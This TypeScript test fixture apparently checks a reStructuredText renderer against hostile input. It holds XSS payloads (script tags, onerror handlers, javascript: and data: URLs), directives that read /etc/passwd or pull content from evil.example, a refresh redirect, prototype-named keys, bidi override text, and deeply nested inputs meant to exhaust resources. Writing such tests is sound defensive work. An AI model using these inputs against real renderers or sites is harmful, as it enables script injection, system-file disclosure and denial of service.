import { HOST } from './html.ts';

export const RST: Record<string, string> = {
  'links that run':
    '`a <javascript:pwned()>`_ b_ c__\n\n.. _b: javascript:pwned()\n.. __: data:text/html,<script>pwned()</script>',
  'raw HTML': '.. raw:: html\n\n   <script>pwned()</script><img src=x onerror=pwned()>\n   </div></section></main>',
  'an image': `.. image:: ${HOST}/a.png\n   :alt: "><script>pwned()</script>\n   :target: javascript:pwned()`,
  'a substitution that runs': '|a|\n\n.. |a| image:: javascript:pwned()\n   :alt: <script>pwned()</script>',
  'code of a language': '.. code-block:: "><script>pwned()</script>\n\n   a',
  'a file of the machine':
    '.. include:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n\n.. literalinclude:: /etc/passwd',
  'a title with HTML': '<script>pwned()</script>\n========================\n\n`<img src=x onerror=pwned()>`_',
  'a role with HTML':
    ':code:`</code><script>pwned()</script>` :raw-html:`<script>pwned()</script>`\n\n.. role:: raw-html(raw)\n   :format: html',
  'a table with HTML': '+----------------------------+\n| <script>pwned()</script>   |\n+----------------------------+',
  'quotes in quotes': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth)}a`).join('\n\n'),
  'a substitution that uses itself': `|a|\n\n.. |a| replace:: ${'|a| '.repeat(300)}`,
  'raw HTML that does not end': '.. raw:: html\n\n   <!-- <div><table><a href="https://evil.example/">\n\nA\n=\n\nb',
  'raw HTML in a line':
    '|a| |b|\n\n.. |a| raw:: html\n\n   <script>pwned()</script>\n\n.. |b| unicode:: 0x202e U+202E .. evil',
  'raw HTML from elsewhere':
    '.. raw:: html\n   :url: https://evil.example/\n\n.. csv-table::\n   :url: https://evil.example/\n\n.. include:: https://evil.example/',
  'what stands in the head':
    '.. meta::\n   :http-equiv=refresh: 0;url=https://evil.example/\n   :description: "><script>pwned()</script>\n\n.. title:: </title><script>pwned()</script>\n\n.. header:: <script>pwned()</script>',
  'classes and names of the page':
    '.. class:: top notice is-bad\n\na\n\n.. container:: copy "onclick="pwned()\n   :name: search\n\n   b\n\n.. _search:\n.. _finder:\n.. _`"><script>pwned()</script>`:\n\nSearch\n======\n\n_`tools` search_ finder_',
  'a figure that leads away':
    '.. figure:: javascript:pwned()\n   :target: javascript:pwned()\n   :figclass: top\n   :figwidth: 99999px\n   :width: 99999\n   :alt: "onerror="pwned()\n\n   <script>pwned()</script>',
  'an image of data':
    '.. image:: data:image/svg+xml,<svg/onload=pwned()>\n   :target: data:text/html,<script>pwned()</script>\n\n.. image:: https://evil.example/a.png\n   :width: 9999\n   :height: 9999\n   :scale: 9999',
  'text with marks as it stands':
    '.. parsed-literal::\n\n   </pre><script>pwned()</script> `a <javascript:pwned()>`_ **b**\n\n.. math:: </pre><img src=x onerror=pwned()>',
  'tables of all kinds with HTML':
    '.. list-table:: <script>pwned()</script>\n   :header-rows: 1\n\n   * - <img src=x onerror=pwned()>\n     - a\n\n.. csv-table:: <script>pwned()</script>\n   :header: "<script>pwned()</script>", b\n\n   "</td></table><script>pwned()</script>", "c"\n\n=== ===\n<b> <i>\n=== ===',
  'a table of contents of HTML':
    '.. contents:: <script>pwned()</script>\n   :depth: 99999999999\n   :class: top\n\n<script>pwned()</script>\n========================\n\n`a <javascript:pwned()>`_\n-------------------------\n\n.. raw:: html\n\n   <!--contents 0--><!--contents 1--><!--contents 99-->',
  'numbers that are none':
    ':rfc:`<script>pwned()</script>` :pep:`"onclick="pwned()` :RFC:`1/../../evil` :pep:`99999999999`',
  'fields, options and footnotes with HTML':
    ':<script>pwned()</script>: <img src=x onerror=pwned()>\n:`a <javascript:pwned()>`_: b\n\n-a<script>pwned()</script>  c\n\n[#"><script>]_ [#a]_\n\n.. [#a] <script>pwned()</script>\n.. [CIT"onclick=] d',
  'notes in notes': Array.from({ length: 300 }, (_, depth) => `${'   '.repeat(depth)}.. note:: a\n`).join('\n'),
  'ten thousand lists in lists': '- '.repeat(10_000) + 'a',
  'tables in tables': '+-------+\n| +---+ |\n| | +-+ |\n| | |a| |\n'.repeat(500),
  'titles of ten thousand styles': Array.from(
    { length: 3000 },
    (_, n) => `A${n}\n${'=-~^"\'`#*+.:_'[n % 13]?.repeat(9)}\n\n.. contents::\n   :local:\n`,
  ).join('\n'),
  'names that all objects have':
    'constructor_ __proto__ |toString| :constructor:`a` :__proto__:`b` [#constructor]_ `hasOwnProperty`_\n\n.. constructor:: a\n\n.. __proto__:: b\n\n.. |valueOf| constructor:: c',
  'an address that leads to itself': 'a_ b_\n\n.. _a: b_\n.. _b: a_\n.. _c: c_\n.. __: __\n\nc_ d__',
  'words without end': `${'W'.repeat(3000)}\n${'='.repeat(3000)}\n\n\`\`${'W'.repeat(1900)}\`\`\n\n:${'W'.repeat(90)}: a\n\n:a: ${'W'.repeat(3000)}\n\n| ${'W'.repeat(3000)}\n\n::\n\n  ${'W'.repeat(3000)}`,
  'text that is turned round':
    '\u202eA\u2067\n===\n\n- \u202eb\n- c\n\n:\u202ed: e\n\n`\u202ef <https://evil.example/>`_ g',
};
